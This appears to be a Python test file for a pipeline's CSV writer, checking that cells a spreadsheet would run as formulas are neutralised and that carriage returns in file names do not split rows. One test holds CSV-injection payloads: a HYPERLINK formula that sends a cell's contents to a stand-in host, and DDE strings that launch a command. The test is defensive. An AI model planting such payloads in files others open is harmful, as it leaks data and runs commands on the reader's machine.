"""What a published file may not do to the person who opens it."""
from __future__ import annotations

import csv

import pandas as pd

from pipeline.publish.writers import write_csv


def _cells(path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [row[0] for row in csv.reader(fh)][1:]


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path):
    labels = ['=HYPERLINK("http://x.example/?"&A1,"klicka")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    write_csv(tmp_path / "x.csv", pd.DataFrame({"row_label": labels}))
    assert _cells(tmp_path / "x.csv") == [f"'{label}".replace("\r", "\\r") for label in labels]


def test_a_carriage_return_in_a_file_name_does_not_split_its_row(tmp_path):
    write_csv(tmp_path / "x.csv", pd.DataFrame({"source_file": ["budget\r2026.pdf", "plan\n2027.pdf"]}))
    assert _cells(tmp_path / "x.csv") == ["budget\\r2026.pdf", "plan\n2027.pdf"]


def test_labels_as_printed_stay_as_printed(tmp_path):
    labels = ["- Ekonomi", "- varav IT-investeringar", "Summa", "-", "+ 3 tjänster", "Netto = intäkter"]
    frame = pd.DataFrame({"row_label": labels, "value": [-1.5, 2.0, -3.0, None, 4.0, 5.0]})
    write_csv(tmp_path / "x.csv", frame)
    assert _cells(tmp_path / "x.csv") == labels
    assert pd.read_csv(tmp_path / "x.csv")["value"].tolist()[:3] == [-1.5, 2.0, -3.0]
